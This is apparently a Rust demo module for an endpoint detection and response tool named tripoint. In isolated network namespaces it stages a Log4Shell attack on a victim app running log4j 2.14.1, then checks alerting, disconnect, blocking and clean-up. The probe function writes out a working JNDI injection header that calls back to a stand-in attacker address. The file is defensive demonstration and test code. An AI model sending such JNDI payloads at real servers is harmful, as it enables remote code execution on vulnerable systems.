//! What happens: probe, call-back, alert, disconnect, block, refusal, proof, clean-up.

use std::io::{Read, Write};
use std::net::{IpAddr, SocketAddr, TcpListener};
use std::path::Path;
use std::sync::atomic::{AtomicBool, Ordering};
use std::time::{Duration, Instant, SystemTime};

use anyhow::{Context as _, bail, ensure};
use tripoint_api::{ActionAnswer, ActionRequest, AlertList, AlertQuery, Client, path};
use tripoint_linux::bpf;
use tripoint_linux::packet::Capture;
use tripoint_model::{ActionKind, Alert, Observable, OutcomeState, Timestamp};

use super::actor::{App, PATIENCE};
use super::app::Event;
use super::material::{self, ATTACKER4, ATTACKER6, CVE, Material};
use super::report::Report;
use super::stage::{CALLBACK_PORT, Stage, VICTIM4, VICTIM6};
use tripoint_agent::offline;
use tripoint_agent::place::Place;

use crate::arguments::Listen;
use crate::command::daemons::Daemons;
use crate::context::Context;

/// Plays the whole story and cleans up, whatever happens.
pub fn play(report: &mut Report, keep: Option<&str>, stop: &AtomicBool) {
    let folder = match tempfile::Builder::new().prefix("tripoint-demo-").tempdir() {
        Ok(folder) => folder,
        Err(error) => return report.step("make a folder", false, error.to_string()),
    };
    let path = folder.path().to_owned();
    let instance = Context::for_folder(&path);
    let mut programs = Vec::new();
    acts(report, &instance, keep, stop, &mut programs);
    // Blocks outlive their agent: these shall not.
    let released = offline::release_all(&Place::new(&path), crate::context::now());
    let removed = folder.close();
    // The kernel lets go of a program a moment after the process that held it.
    std::thread::sleep(Duration::from_millis(50));
    let left = bpf::still_loaded(&programs);
    let released = released.is_ok_and(|lifted| lifted.errors.is_empty());
    report.cleaned_up = released && removed.is_ok() && !path.exists() && left.is_empty() && !programs.is_empty();
    let detail = if report.cleaned_up {
        "namespaces, kernel programs, rules and files are gone".to_owned()
    } else {
        format!("kernel programs left: {left:?}, folder {}", path.display())
    };
    report.step("clean up", report.cleaned_up, detail);
}

/// Everything between curtain up and curtain down. Each part ends by being dropped.
fn acts(report: &mut Report, instance: &Context, keep: Option<&str>, stop: &AtomicBool, programs: &mut Vec<u32>) {
    let folder = &instance.data_dir;
    let staged = Stage::build()
        .map(|stage| (stage, format!("attacker {ATTACKER4}, {ATTACKER6} · router · victim {VICTIM4}, {VICTIM6}")));
    let Some(stage) = report.outcome("three network namespaces", staged) else { return };
    let Some(material) = report.outcome("load the feed and the advisories", prepare(folder)) else { return };
    let Some(mut app) = report.outcome("start a shop that carries log4j-core 2.14.1", App::start(&stage, &material))
    else {
        return;
    };
    let daemons = Daemons::start(
        instance,
        &Listen { listen: Some(keep.unwrap_or("none").into()), ready_file: None, user: None },
        Some(&folder.join("log")),
    );
    let Some(daemons) = report.outcome(
        "agent and server",
        daemons.map(|d| {
            let pid = d.agent_pid();
            (d, format!("agent is process {pid}, data in {}", folder.display()))
        }),
    ) else {
        report.say(&std::fs::read_to_string(folder.join("log")).unwrap_or_default());
        return;
    };
    programs.extend(bpf::held_by(daemons.agent_pid()));
    let attack = Attack::open(&stage, instance);
    let Some(mut attack) =
        report.outcome("attacker waits for call-backs", attack.map(|a| (a, format!("port {CALLBACK_PORT}"))))
    else {
        return;
    };
    scenes(report, &mut attack, &mut app, stop);
    report.alerts = attack.alerts().unwrap_or_default();
    if keep.is_some() && !stop.load(Ordering::Relaxed) {
        report.say(&format!("\nEverything keeps running. Explore with:\n  tripoint --data-dir {0} alerts list\n  tripoint --data-dir {0} alerts show ID\n  tripoint --data-dir {0} doctor\n{1}Ctrl-C cleans up.", folder.display(), console(folder)));
        while !stop.load(Ordering::Relaxed) {
            std::thread::sleep(Duration::from_millis(100));
        }
    }
    drop((app, daemons));
}

/// Where a browser signs in, where the server listens for one.
fn console(folder: &Path) -> String {
    let setup = std::fs::read_to_string(tripoint_server::setup_path(folder)).unwrap_or_default();
    let address = setup.lines().find_map(|line| line.strip_prefix("address "));
    address.map(|address| format!("  a browser at {address}\n")).unwrap_or_default()
}

fn scenes(report: &mut Report, attack: &mut Attack<'_>, app: &mut App, stop: &AtomicBool) {
    let going = || !stop.load(Ordering::Relaxed);
    if !going() || report.outcome("a bad client probes the shop", attack.probe()).is_none() {
        return;
    }
    let called = attack.called_back(app);
    if let Some(ms) = report.outcome("the shop calls back; the alert is visible", called) {
        report.connect_to_alert_ms = Some(ms);
    }
    report.outcome("the probe is an alert too", attack.inbound_alert());
    report.outcome("the alert explains itself", attack.explained());
    if !going() {
        return;
    }
    if let Some(ms) = report.outcome("disconnect", attack.disconnect(app)) {
        report.disconnect_ms = Some(ms);
    }
    if let Some(ms) = report.outcome("block an open IPv6 flow", attack.block(app)) {
        report.block_to_effect_ms = Some(ms);
    }
    if !going() {
        return;
    }
    report.outcome("second call-backs are refused", attack.refused(app));
    if let Some(packets) = report.outcome("nothing left the host", attack.silence()) {
        report.packets_after_block = Some(packets);
    }
}

fn prepare(folder: &Path) -> anyhow::Result<(Material, String)> {
    let material = material::write(folder)?;
    let ranges = [material_range("203.0.113.0/24")?, material_range("2001:db8::/32")?];
    let now = Timestamp::from_system(SystemTime::now());
    let options = tripoint_intel::ImportOptions {
        name: "demo".into(),
        category: Some(tripoint_model::Category::C2),
        confidence: Some(90),
        ..tripoint_intel::ImportOptions::default()
    };
    let context = tripoint_intel::Context { data_dir: folder, permit_ranges: &ranges, own: &[], now };
    let feed = tripoint_intel::import(&material.feed, &options, &context)?;
    let inner = tripoint_vuln::ImportContext { data_dir: folder.to_owned(), now };
    let files = [material.advisory.clone(), material.exploited.clone()];
    let advisories = tripoint_vuln::import(&files, &tripoint_vuln::ImportOptions::default(), &inner, &mut |_, _| {})?;
    ensure!(feed.imported == 2, "{} of 2 addresses were taken: {:?}", feed.imported, feed.refusals);
    Ok((material, format!("{} indicators, {} records", feed.imported, advisories.imported)))
}

fn material_range(text: &str) -> anyhow::Result<ipnet::IpNet> {
    Ok(text.parse()?)
}

/// The attacker's side, the analyst's side, and the wire between.
struct Attack<'a> {
    stage: &'a Stage,
    client: Client,
    runtime: tokio::runtime::Runtime,
    capture: Capture,
}

impl<'a> Attack<'a> {
    fn open(stage: &'a Stage, instance: &Context) -> anyhow::Result<Self> {
        for address in [ATTACKER4, ATTACKER6] {
            let listener = stage.attacker_listens(address)?;
            std::thread::spawn(move || swallow(&listener));
        }
        Ok(Self {
            stage,
            client: instance.client()?,
            runtime: tokio::runtime::Builder::new_current_thread().enable_all().build()?,
            capture: stage.capture()?,
        })
    }

    fn probe(&self) -> anyhow::Result<((), String)> {
        let mut stream = self.stage.attacker_connects()?;
        let header = format!("${{jndi:ldap://{ATTACKER4}:{CALLBACK_PORT}/a}}");
        let request = format!("GET / HTTP/1.1\r\nHost: shop\r\nUser-Agent: {header}\r\nConnection: close\r\n\r\n");
        stream.write_all(request.as_bytes())?;
        let mut answer = String::new();
        stream.read_to_string(&mut answer).context("the shop's answer")?;
        ensure!(answer.starts_with("HTTP/1.1 200"), "the shop answered {answer:?}");
        Ok(((), format!("User-Agent: {header}")))
    }

    fn alerts(&self) -> anyhow::Result<Vec<Alert>> {
        self.runtime.block_on(async {
            let list: AlertList =
                self.client.get(&format!("{}{}", path::ALERTS, AlertQuery::default().to_query())).await?;
            Ok(list.alerts)
        })
    }

    /// The alert that `wanted` accepts, and when it was first visible.
    fn alert(&self, what: &str, wanted: impl Fn(&Alert) -> bool) -> anyhow::Result<(Timestamp, Alert)> {
        let until = Instant::now() + PATIENCE;
        loop {
            let found = self.alerts()?.into_iter().find(|alert| wanted(alert));
            if let Some(alert) = found {
                return Ok((Timestamp::from_system(SystemTime::now()), alert));
            }
            if Instant::now() > until {
                bail!("no alert {what} after {} s", PATIENCE.as_secs());
            }
        }
    }

    fn called_back(&self, app: &App) -> anyhow::Result<(f64, String)> {
        let to = |alert: &Alert| alert.rule == "bad_server_of_vulnerable_app" && peer(alert) == ATTACKER4.parse().ok();
        let (visible, alert) = self.alert("bad_server_of_vulnerable_app", to)?;
        let (_, event) = app.wait(|event| matches!(event, Event::Connected { .. }))?;
        let Event::Connected { asked_us, .. } = event else { bail!("the shop did not connect") };
        let ms = visible.since(Timestamp(asked_us)).as_secs_f64() * 1000.0;
        Ok((
            ms,
            format!(
                "{}\nseverity {} {}, {ms:.2} ms after the connect was asked for",
                alert.title, alert.severity.level, alert.severity.score
            ),
        ))
    }

    fn inbound_alert(&self) -> anyhow::Result<((), String)> {
        let (_, alert) =
            self.alert("bad_client_of_vulnerable_app", |alert| alert.rule == "bad_client_of_vulnerable_app")?;
        Ok(((), alert.title))
    }

    fn explained(&self) -> anyhow::Result<((), String)> {
        let (_, alert) = self.alert("with its evidence", |alert| alert.rule == "bad_server_of_vulnerable_app")?;
        let process = alert.process.as_ref().context("the alert names no process")?;
        ensure!(process.exe.ends_with("/shop-frontend"), "executable {:?}", process.exe);
        ensure!(process.argv.get(1).is_some_and(|word| word == "demo-app"), "command line {:?}", process.argv);
        ensure!(!process.ancestry.is_empty(), "no ancestry");
        ensure!(alert.claims.iter().any(|claim| claim.feed == "demo"), "no claim");
        let finding = alert.findings.iter().find(|finding| finding.cves.iter().any(|cve| cve == CVE));
        let finding = finding.with_context(|| format!("{CVE} is not among the findings"))?;
        ensure!(finding.known_exploited, "{CVE} is not marked as exploited");
        Ok((
            (),
            format!(
                "process {} {}\n{} {} {:?}: {CVE}, exploited in the wild, fixed in {}",
                process.key.pid,
                process.exe,
                finding.name,
                finding.version,
                finding.presence,
                finding.fixed.as_deref().unwrap_or("?")
            ),
        ))
    }

    fn act(&self, kind: ActionKind, target: &str) -> anyhow::Result<ActionAnswer> {
        let target: Observable = target.parse()?;
        let request = ActionRequest {
            for_seconds: Some(600),
            reason: Some("demonstration".into()),
            ..ActionRequest::new(kind, vec![target.into()])
        };
        let answer: ActionAnswer = self.runtime.block_on(async { self.client.post(path::ACTIONS, &request).await })?;
        ensure!(answer.refused.is_empty(), "refused: {:?}", answer.refused);
        ensure!(answer.errors.is_empty(), "failed: {:?}", answer.errors);
        let good = |state: OutcomeState| matches!(state, OutcomeState::Applied | OutcomeState::Nothing);
        ensure!(
            !answer.outcomes.is_empty() && answer.outcomes.iter().all(|o| good(o.state)),
            "outcomes: {:?}",
            answer.outcomes
        );
        Ok(answer)
    }

    fn disconnect(&self, app: &App) -> anyhow::Result<(f64, String)> {
        let asked = Instant::now();
        let answer = self.act(ActionKind::Disconnect, ATTACKER4)?;
        let (cut, event) = app.wait(|event| matches!(event, Event::Cut { .. }))?;
        let ms = cut.saturating_duration_since(asked).as_secs_f64() * 1000.0;
        let Event::Cut { error, .. } = event else { bail!("the flow was not cut") };
        Ok((ms, format!("{} → the shop's socket says {error:?} after {ms:.2} ms", outcomes(&answer))))
    }

    fn block(&mut self, app: &mut App) -> anyhow::Result<(f64, String)> {
        app.order(&format!("tcp {}", SocketAddr::new(ATTACKER6.parse()?, CALLBACK_PORT)))?;
        app.wait(|event| matches!(event, Event::Connected { .. }))?;
        self.alert("for the IPv6 call-back", |alert| peer(alert) == ATTACKER6.parse().ok())?;
        let asked = Instant::now();
        let answer = self.act(ActionKind::Block, ATTACKER6)?;
        ensure!(
            answer.outcomes.iter().any(|o| o.action == ActionKind::Block && o.verified),
            "the block was not read back"
        );
        let (cut, _) = app.wait(|event| matches!(event, Event::Cut { .. }))?;
        let ms = cut.saturating_duration_since(asked).as_secs_f64() * 1000.0;
        self.capture.take()?;
        Ok((ms, format!("{} → the open flow is dead after {ms:.2} ms", outcomes(&answer))))
    }

    fn refused(&self, app: &mut App) -> anyhow::Result<((), String)> {
        let mut lines = Vec::new();
        for (protocol, address) in [
            ("tcp", ATTACKER4),
            ("tcp", ATTACKER6),
            ("tcp", "::ffff:203.0.113.66"),
            ("udp", ATTACKER4),
            ("udp", ATTACKER6),
        ] {
            let target = SocketAddr::new(address.parse()?, CALLBACK_PORT);
            app.order(&format!("{protocol} {target}"))?;
            let about = |event: &Event| matches!(event, Event::Refused { remote, .. } | Event::Connected { remote, .. } if *remote == target);
            let (_, event) = app.wait(about).with_context(|| format!("{protocol} {target}"))?;
            match event {
                Event::Refused { denied: true, error, .. } => lines.push(format!("{protocol} {target}: {error}")),
                other => bail!("{protocol} {target}: {other:?}"),
            }
        }
        Ok(((), lines.join("\n")))
    }

    /// Counts what the router saw from the victim to the attacker since the blocks.
    fn silence(&mut self) -> anyhow::Result<(u64, String)> {
        std::thread::sleep(Duration::from_millis(300));
        let attackers: [IpAddr; 2] = [ATTACKER4.parse()?, ATTACKER6.parse()?];
        let packets = self.capture.take()?;
        let left = packets.iter().filter(|packet| attackers.contains(&packet.to)).count() as u64;
        ensure!(left == 0, "{left} packets towards the attacker were captured");
        Ok((left, "0 packets towards the attacker on the wire".into()))
    }
}

fn peer(alert: &Alert) -> Option<IpAddr> {
    alert.connections.first().map(|connection| connection.remote.ip())
}

fn outcomes(answer: &ActionAnswer) -> String {
    let one = |o: &tripoint_model::Outcome| {
        format!(
            "{} {} {:?}{} by {}",
            o.action.as_str(),
            o.target,
            o.state,
            if o.verified { ", read back" } else { "" },
            o.mechanism
        )
    };
    answer.outcomes.iter().map(one).collect::<Vec<_>>().join("; ")
}

/// Takes call-backs and reads them until they end.
fn swallow(listener: &TcpListener) {
    for mut caller in listener.incoming().flatten() {
        std::thread::spawn(move || {
            let mut buffer = [0u8; 4096];
            while caller.read(&mut buffer).is_ok_and(|read| read > 0) {}
        });
    }
}
